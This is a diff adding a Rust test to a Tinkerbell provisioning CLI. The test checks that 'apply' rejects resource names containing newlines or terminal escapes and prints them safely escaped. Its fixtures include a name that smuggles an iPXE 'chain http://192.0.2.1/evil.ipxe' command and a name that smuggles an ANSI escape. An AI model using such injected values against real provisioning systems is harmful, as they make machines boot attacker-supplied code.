@@ -264,6 +264,42 @@ metadata: {name: g}
 }
 
 #[test]
+fn apply_refuses_a_name_with_a_newline_or_escape_naming_it() {
+    let env = Env::new();
+    let yaml = "\
+apiVersion: tinkerbell.org/v1alpha1
+kind: Hardware
+metadata: {name: good, namespace: ns}
+spec: {}
+---
+apiVersion: tinkerbell.org/v1alpha1
+kind: Hardware
+metadata: {name: \"wk01\\nchain http://192.0.2.1/evil.ipxe\", namespace: ns}
+spec: {}
+---
+apiVersion: tinkerbell.org/v1alpha1
+kind: Template
+metadata: {name: \"red\\e[31m\", namespace: ns}
+spec: {data: x}
+";
+    let f = env.file("names.yaml", yaml);
+    let err = env.fails(&["apply", "-f", f.to_str().expect("utf8")]);
+    assert!(err.contains("document 2 (Hardware"), "{err}");
+    assert!(err.contains("field `metadata.name`"), "{err}");
+    assert!(
+        err.contains(r#""wk01\nchain http://192.0.2.1/evil.ipxe""#),
+        "the name, escaped: {err}"
+    );
+    assert!(err.contains("document 3 (Template"), "{err}");
+    assert!(err.contains(r#""red\u{1b}[31m""#), "{err}");
+    assert!(
+        !err.lines().any(|l| l.starts_with("chain")) && !err.contains('\u{1b}'),
+        "no raw newline or escape reaches the terminal: {err}"
+    );
+    assert!(!env.db().exists(), "nothing applied, no store created");
+}
+
+#[test]
 fn read_only_commands_refuse_a_missing_store_and_create_nothing() {
     let env = Env::new();
     for args in [
